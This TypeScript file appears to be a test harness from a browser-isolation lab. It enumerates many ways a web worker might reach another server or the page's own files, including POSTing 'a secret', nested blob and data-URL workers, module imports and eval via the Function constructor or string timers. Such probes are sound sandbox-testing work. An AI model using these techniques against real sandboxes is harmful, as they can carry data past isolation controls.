/** Ways from a worker to another server, or to files of the page's own. */
import { firstMessage, settle, type Attack } from "@/lab/attack/ways/attempt";

declare function importScripts(url: string): void;

interface Sent {
  readonly method?: string;
  readonly isAsync?: boolean;
  readonly type?: XMLHttpRequestResponseType;
}

function requestByXhr(
  url: string,
  { method = "GET", isAsync = true, type = "text" }: Sent = {},
): Promise<number> {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open(method, url, isAsync);
    if (isAsync) {
      request.responseType = type;
    }
    request.addEventListener("load", () => resolve(request.status));
    request.addEventListener("error", () => reject(new Error("refused")));
    request.send(method === "POST" ? "a secret" : null);
  });
}

const toBlobUrl = (script: string) =>
  URL.createObjectURL(new Blob([script], { type: "text/javascript" }));

/** A worker in the worker; it tells what it got, or fails aloud. */
function askNested(script: string, options?: WorkerOptions): Promise<unknown> {
  return firstMessage(new Worker(toBlobUrl(script), options));
}

/** Tells what it resolves to; a refusal becomes an error of the worker. */
const telling = (expression: string) =>
  `Promise.resolve().then(() => ${expression}).then((got) => postMessage(String(got)), () => setTimeout(() => { throw 1 }))`;

/** Whether anything comes back that is no error: most of what is asked has no answer that can be read. */
async function statusOf(asked: Promise<Response>): Promise<string> {
  const { type, status } = await asked;
  return `${type} ${status}`;
}

export const networkWays: Readonly<Record<string, Attack>> = {
  "fetch own origin": async ({ own }) => (await fetch(`${own}/secret.txt`)).text(),
  "fetch other origin": async ({ hit }) => (await fetch(hit)).text(),
  "fetch no-cors": ({ hit }) => statusOf(fetch(hit, { mode: "no-cors" })),
  "fetch with POST": ({ hit }) => statusOf(fetch(hit, { method: "POST", body: "a secret" })),
  "fetch kept alive": ({ hit }) => statusOf(fetch(hit, { keepalive: true, mode: "no-cors" })),
  "fetch of a Request": ({ hit }) => statusOf(fetch(new Request(hit, { cache: "reload" }))),
  "fetch with a stream": ({ hit }) =>
    statusOf(fetch(hit, { method: "POST", body: new Blob(["a secret"]), mode: "no-cors" })),
  XMLHttpRequest: ({ hit }) => requestByXhr(hit),
  "XMLHttpRequest with POST": ({ hit }) => requestByXhr(hit, { method: "POST" }),
  "XMLHttpRequest of a blob": ({ hit }) => requestByXhr(hit, { type: "blob" }),
  "synchronous XMLHttpRequest": ({ hit }) => requestByXhr(hit, { isAsync: false }),
  WebSocket: ({ hit }) => openSocket(hit.replace("http", "ws")),
  "WebSocket with a protocol": ({ hit }) => openSocket(hit.replace("http", "ws"), "secret"),
  "WebSocketStream or a second socket": ({ hit }) => {
    const url = hit.replace("http", "ws");
    const stream: unknown = Reflect.get(globalThis, "WebSocketStream");
    return typeof stream === "function"
      ? Reflect.get(Reflect.construct(stream, [url]), "opened")
      : openSocket(url);
  },
  EventSource: ({ hit }) => firstMessage(new EventSource(hit)),
  "EventSource with credentials": ({ hit }) =>
    firstMessage(new EventSource(hit, { withCredentials: false })),
  WebTransport: () => {
    const transport = new WebTransport("https://localhost:1/");
    transport.ready.catch(() => undefined);
    transport.closed.catch(() => undefined);
    return "constructed";
  },
  "import()": async ({ hit }) => Reflect.get(await import(/* @vite-ignore */ hit), "secret"),
  "import() of a blob that imports": async ({ hit }) => {
    const url = toBlobUrl(`export { secret } from ${JSON.stringify(hit)};`);
    return Reflect.get(await import(/* @vite-ignore */ url), "secret");
  },
  importScripts: ({ hit }) => {
    importScripts(hit);
    return Reflect.get(globalThis, "secret");
  },
  "importScripts of the own origin": ({ own }) => {
    importScripts(`${own}/secret.js`);
    return Reflect.get(globalThis, "ownSecret");
  },
  "importScripts of a blob that imports": ({ hit }) => {
    importScripts(toBlobUrl(`importScripts(${JSON.stringify(hit)})`));
    return Reflect.get(globalThis, "secret");
  },
  "WebAssembly by stream": async ({ hit }) => {
    await WebAssembly.compileStreaming(fetch(hit)).catch(() => undefined);
    return undefined;
  },
  "a picture decoded": async ({ hit }) => {
    const answer = await fetch(hit);
    return await createImageBitmap(await answer.blob()).catch(() => answer.status);
  },
  "nested worker from the server": ({ own }) => firstMessage(new Worker(`${own}/nested.js`)),
  "nested module worker from the server": ({ own }) =>
    firstMessage(new Worker(`${own}/nested.js`, { type: "module" })),
  "nested worker from a blob": ({ hit }) =>
    askNested(telling(`fetch(${JSON.stringify(hit)}).then((r) => r.text())`)),
  "nested worker with a socket": ({ hit }) =>
    askNested(
      telling(
        `new Promise((yes, no) => { const s = new WebSocket(${JSON.stringify(hit.replace("http", "ws"))}); s.onopen = () => yes("open"); s.onerror = no; })`,
      ),
    ),
  "nested worker that imports scripts": ({ hit }) =>
    askNested(telling(`(importScripts(${JSON.stringify(hit)}), self.secret)`)),
  "nested module worker that imports": ({ hit }) =>
    askNested(`import { secret } from ${JSON.stringify(hit)}; postMessage(secret);`, {
      type: "module",
    }),
  "nested worker in a nested worker": ({ hit }) => {
    const inner = telling(`fetch(${JSON.stringify(hit)}).then((r) => r.text())`);
    return askNested(
      `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}]))); w.onmessage = ({ data }) => postMessage(data); w.onerror = () => setTimeout(() => { throw 1 });`,
    );
  },
  "nested worker from data": ({ hit }) => {
    const script = encodeURIComponent(
      telling(`fetch(${JSON.stringify(hit)}).then((r) => r.text())`),
    );
    return firstMessage(new Worker(`data:text/javascript,${script}`));
  },
  "font of another origin": async ({ hit }) => {
    const face = new FontFace("secret", `url(${hit})`);
    await face.load();
    return face.status;
  },
  "a script out of text": ({ hit }) => {
    // eval by another name: what it asks for comes, where it may run at all.
    const make: unknown = Reflect.get(Object, "constructor");
    const asked: unknown =
      typeof make === "function"
        ? Reflect.apply(make, undefined, [`return fetch("${hit}")`])
        : undefined;
    if (typeof asked === "function") {
      Reflect.apply(asked, undefined, []);
    }
    return settle();
  },
  "a timer out of text": ({ hit }) => {
    Reflect.apply(setTimeout, undefined, [`fetch("${hit}")`, 0]);
    return settle();
  },
};

function openSocket(url: string, protocol?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = protocol === undefined ? new WebSocket(url) : new WebSocket(url, protocol);
    socket.addEventListener("open", () => resolve("open"));
    socket.addEventListener("error", () => reject(new Error("error event")));
  });
}
